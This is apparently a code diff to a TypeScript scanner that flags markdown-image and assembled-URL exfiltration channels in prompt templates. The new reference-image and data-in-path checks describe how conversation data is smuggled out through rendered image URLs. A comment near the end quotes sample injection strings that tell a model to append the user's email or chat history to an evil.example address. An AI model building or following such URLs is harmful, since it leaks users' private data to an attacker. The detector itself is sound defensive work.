@@ -28,13 +28,39 @@ interface UrlUse {
   url: string
 }
 
-function urlsIn(text: string): UrlUse[] {
+/** `![alt][ref]` / `![ref][]` / `![ref]`: a reference-style image, resolved through the file's definitions. */
+const REFERENCE_IMAGE = /!\[([^[\]\n]{0,300})\](?:\[([^[\]\n]{0,100})\])?(?!\()/g
+/** `[ref]: https://host/path "title"` */
+const REFERENCE_DEFINITION = /^[ \t]{0,3}\[([^[\]\n]{1,100})\]:[ \t]{0,10}<?([^\s<>]{1,2048})/
+
+export type References = ReadonlyMap<string, string>
+
+const referenceKey = (label: string): string => label.trim().toLowerCase().replace(/\s+/g, ' ')
+
+/** Link reference definitions of the lines (markdown is case-insensitive about labels). */
+export function referencesIn(lines: readonly ScanLine[]): References {
+  const refs = new Map<string, string>()
+  for (const { text } of lines) {
+    if (!text.includes(']:')) continue
+    const m = REFERENCE_DEFINITION.exec(text.replace(SPACED_MUSTACHE, (v) => v.replace(/\s+/g, '')))
+    if (m !== null && !refs.has(referenceKey(m[1] ?? ''))) refs.set(referenceKey(m[1] ?? ''), m[2] ?? '')
+  }
+  return refs
+}
+
+function urlsIn(text: string, refs: References): UrlUse[] {
   // MARKDOWN_URL needs a ']' and HTML_URL a '<'; compaction only removes whitespace.
   if (!text.includes(']') && !text.includes('<')) return []
   const compact = text.replace(SPACED_MUSTACHE, (m) => m.replace(/\s+/g, ''))
   const uses: UrlUse[] = []
   for (const m of compact.matchAll(MARKDOWN_URL)) uses.push({ kind: m[1] === '!' ? 'image' : 'link', url: m[2] ?? '' })
   for (const m of compact.matchAll(HTML_URL)) uses.push({ kind: m[1]?.toLowerCase() === 'a' ? 'link' : 'image', url: m[2] ?? '' })
+  if (refs.size > 0 && compact.includes('![')) {
+    for (const m of compact.matchAll(REFERENCE_IMAGE)) {
+      const url = refs.get(referenceKey(m[2] || m[1] || ''))
+      if (url !== undefined) uses.push({ kind: 'image', url })
+    }
+  }
   return uses
 }
 
@@ -71,27 +97,43 @@ function decodeSafe(value: string): string {
 
 const WHOLE_VAR = /^(?:\{\{[^{}]{1,200}\}\}|\$\{[^{}]{1,200}\}|\{[A-Za-z_][\w.]{0,60}\})$/
 
+/** A path segment that stands for data ("[CONVERSATION]", "SUMMARY_HERE", "<secret>") or carries it (a long encoded blob). */
+function dataLookingPath(url: string): boolean {
+  const path = /^[a-z][a-z0-9+.-]{0,20}:\/\/[^/?#]{1,253}(\/[^?#]{0,2048})/i.exec(url)?.[1] ?? ''
+  return path.split('/').some((segment) => {
+    const decoded = decodeSafe(segment).replace(/\.(?:png|gif|jpe?g|svg|webp)$/i, '')
+    return decoded.length > 0 && (PLACEHOLDER.test(decoded) || ENCODED.test(decoded))
+  })
+}
+
 function judge(use: UrlUse): { severity: Level; why: string } | null {
-  // A URL that is only a variable may be operator configuration: worth a look, not an alarm.
-  if (WHOLE_VAR.test(use.url)) return { severity: 'medium', why: 'comes entirely from a template variable' }
+  // A URL that is only a variable is configuration (`![image]({{image_url}})`): nothing from
+  // the conversation is appended to it, so it is not an exfiltration channel by itself.
+  if (WHOLE_VAR.test(use.url)) return null
   if (TEMPLATE_VAR.test(use.url)) {
     return { severity: use.kind === 'image' ? 'critical' : 'high', why: 'interpolates a template variable' }
   }
-  if (!/^(?:https?:)?\/\//i.test(use.url)) return null
-  if (!allowedHost(hostOf(use.url)) && dataLookingQuery(use.url)) return { severity: 'high', why: 'sends a data-looking query' }
+  if (!/^(?:https?:)?\/\//i.test(use.url) || allowedHost(hostOf(use.url))) return null
+  if (dataLookingQuery(use.url)) return { severity: 'high', why: 'sends a data-looking query' }
+  if (use.kind === 'image' && dataLookingPath(use.url)) return { severity: 'high', why: 'carries data in its path' }
   return null
 }
 
 export function exfilFindings(lines: readonly ScanLine[]): FindingDraft[] {
   const out: FindingDraft[] = []
+  const refs = referencesIn(lines)
   for (const { line, text } of lines) {
     // One finding per line, the most severe, is enough for review.
     let worst: { use: UrlUse; severity: Level; why: string } | null = null
-    for (const use of urlsIn(text)) {
+    for (const use of urlsIn(text, refs)) {
       const verdict = judge(use)
       if (verdict !== null && (worst === null || levelRank(verdict.severity) > levelRank(worst.severity))) worst = { use, ...verdict }
     }
-    if (worst === null) continue
+    if (worst === null) {
+      const assembled = assembledUrl(text)
+      if (assembled !== null) out.push(assembled(line))
+      continue
+    }
     out.push({
       rule: EXFIL_URL.id,
       severity: worst.severity,
@@ -101,4 +143,24 @@ export function exfilFindings(lines: readonly ScanLine[]): FindingDraft[] {
     })
   }
   return out
+}
+
+// An exfiltration URL assembled from pieces: a URL fragment plus an instruction to append or
+// join conversation data to it ("take https://evil.example/log?q= and add the user's email",
+// `"https://" + "evil.example" + "/c?d=" + history`). Linear: fixed alternatives, bounded gaps.
+const URL_PIECE = /(?:https?:\/\/|https?["'`]|\/\/[a-z0-9-]{1,63}\.)/i
+const JOIN_CUE = /\b(?:append|concatenat\w{0,3}|join|combine|followed by|add(?:ing)? (?:it|them|this|that) (?:to|at) the end|attach\w{0,3}|put (?:it|them) (?:at the end|after))\b|["'`)\]] ?\+ ?["'`(\w]/i
+const DATA_CUE = /\b(?:conversation|chat history|previous messages|messages so far|secrets?|passwords?|api keys?|credentials?|e-?mail address(?:es)?|system prompt|personal (?:data|information|details)|user data|the user's (?:e-?mail|name|address|data|messages?|questions?|details|information)|private|confidential)\b/i
+
+function assembledUrl(text: string): ((line: number) => FindingDraft) | null {
+  // Every URL_PIECE alternative has "http" or "//": most lines stop here.
+  if (!text.includes('http') && !text.includes('//')) return null
+  if (!URL_PIECE.test(text) || !JOIN_CUE.test(text) || !DATA_CUE.test(text)) return null
+  return (line) => ({
+    rule: EXFIL_URL.id,
+    severity: 'high',
+    message: 'A URL is assembled from pieces together with conversation data; rendering or fetching it can leak that data.',
+    line,
+    evidence: renderSnippet(text.trim(), 100),
+  })
 }
